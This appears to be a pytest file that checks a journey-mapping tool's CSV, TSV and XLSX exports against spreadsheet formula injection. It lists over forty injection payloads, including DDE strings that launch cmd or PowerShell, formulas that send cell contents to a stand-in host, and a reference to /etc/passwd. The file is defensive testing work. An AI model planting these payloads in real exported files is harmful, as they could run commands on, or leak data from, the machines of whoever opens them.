# SPDX-License-Identifier: Apache-2.0
"""No cell of ours is reckoned with by a spreadsheet, and each comes back as it was written."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from journey_studio.exchange.formats import Choices
from journey_studio.exchange.registry import FORMATS, by_name
from journey_studio.model.builder import Builder
from journey_studio.model.records import Card
from tests.exchange.laws import PICTURES

PAYLOADS = (
    "=1+1", "=1+1\n", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(1)'!A0", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")', '=IMPORTXML("http://x.example/","//a")',
    '=IMPORTDATA("http://x.example/")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMAGE("http://x.example/a.png")', "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "=MSEXCEL|'\\..\\cmd.exe'!''", "='file:///etc/passwd'#$passwd.A1", "={1;2}", "{=1+1}",
    "=A1", "=#REF!", "=1/0", "==1", "=+1", "=-1", "+=1", "-=1", "@=1", "=@A1", "\t=1+1",
    "\t\t@A1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1",
    '"=1+1"', ';=1+1;"', ",=1+1,", "=1+1|x", "%0A=1+1", "=\u202e1+1", "-", "=",
)  # fmt: skip
# A number is no formula, whoever reads it.
_FORMULA = re.compile(r"[=+\-@＝＋－＠\t\r]")
READ_TABLES = [each for each in FORMATS if each.name in ("csv", "tsv", "xlsx")]


def made() -> Builder:
    """A map with a payload on each card, and in every other place a table has."""
    builder = Builder()
    the_map = builder.add("map", title="=1+1 map", scenario="@SUM(1+1)")
    lane = builder.add("lane", the_map, title="+1+1 lane")
    step = builder.add("step", builder.add("stage", the_map, title="-1+1 stage"), title="@A1 step")
    for text in PAYLOADS:
        builder.add("card", lane, step, text=text, kind="pain")  # which trackers take, too
    builder.named("persona", "=1+1 persona")
    return builder


def written(name: str, **choices: str) -> bytes:
    snapshot = made().snapshot()
    ids = tuple(each.id for each in snapshot.maps())
    return by_name(name).writer().write(snapshot, ids, Choices(**choices), PICTURES.get).data  # type: ignore[arg-type]


def texts(data: bytes, name: str) -> list[str]:
    found = by_name(name).reader().read(data, f"map.{name}", Choices()).snapshot
    return [each.text for each in found.records.values() if isinstance(each, Card)]


def expected() -> list[str]:
    snapshot = made().snapshot()
    return [each.text for each in snapshot.records.values() if isinstance(each, Card)]


def test_there_are_more_than_forty_payloads() -> None:
    assert len(expected()) == len(PAYLOADS) > 40


@pytest.mark.parametrize("name", [each.name for each in READ_TABLES])
def test_our_own_reader_gives_every_text_back(name: str) -> None:
    assert texts(written(name), name) == expected()


@pytest.mark.parametrize("name", ["csv", "tsv", "jira", "azure-devops", "trello", "planner"])
@pytest.mark.parametrize("shape", ["long", "matrix"])
def test_no_cell_of_a_text_begins_like_a_formula(name: str, shape: str) -> None:
    text = written(name, shape=shape).decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter="\t" if name == "tsv" else ",")
    for cell in (cell for row in rows for cell in row):
        assert not _FORMULA.match(cell) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell) is not None


@pytest.mark.parametrize("shape", ["long", "matrix"])
def test_no_cell_of_a_workbook_is_a_formula(shape: str) -> None:
    with zipfile.ZipFile(io.BytesIO(written("xlsx", shape=shape))) as book:
        for part in book.namelist():
            inside = book.read(part)
            assert b"<f>" not in inside, part
            assert b"<f " not in inside, part
            assert b"<hyperlink " not in inside, part
            assert b"TargetMode" not in inside, part


def converted(path: Path, made_of: str) -> str:
    """A table as LibreOffice makes text of it: what its cells show."""
    told = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = ["soffice", f"-env:UserInstallation=file://{path.parent}/home", "--headless"]
    command += [f"--infilter={made_of}"] if made_of else []
    command += ["--convert-to", told, "--outdir", str(path.parent / "out"), str(path)]
    subprocess.run(command, check=True, timeout=200, capture_output=True)
    return "\n".join(each.read_text("utf-8") for each in sorted((path.parent / "out").iterdir()))


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@pytest.mark.parametrize(
    ("name", "made_of"),
    # A person may let formulas be reckoned with; then the guard alone holds.
    [("csv", "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"), ("xlsx", "")],
)
def test_libreoffice_shows_every_text_and_reckons_with_none(
    name: str, made_of: str, tmp_path: Path
) -> None:
    path = tmp_path / f"map.{name}"
    path.write_bytes(written(name))
    shown = {cell for row in csv.reader(io.StringIO(converted(path, made_of))) for cell in row}
    sent = _cells(path.read_bytes(), name)
    assert {_plain(cell) for cell in shown} <= {_plain(cell) for cell in sent}
    lines = {_plain(cell) for cell in shown}
    assert {_plain(text) for text in expected()} <= lines


def _cells(data: bytes, name: str) -> set[str]:
    """What was written into the cells, by libraries that are not ours."""
    if name == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        return {cell for row in rows for cell in row}
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    pages = (book.get_sheet_by_name(each).to_python() for each in book.sheet_names)
    return {str(cell) for page in pages for row in page for cell in row}


def _plain(cell: str) -> str:
    """A cell without its guard, blanks at its ends, and how its lines end."""
    words = " ".join(cell.split()).removeprefix("'").strip().strip("\ufeff")
    return words.removesuffix(".0")
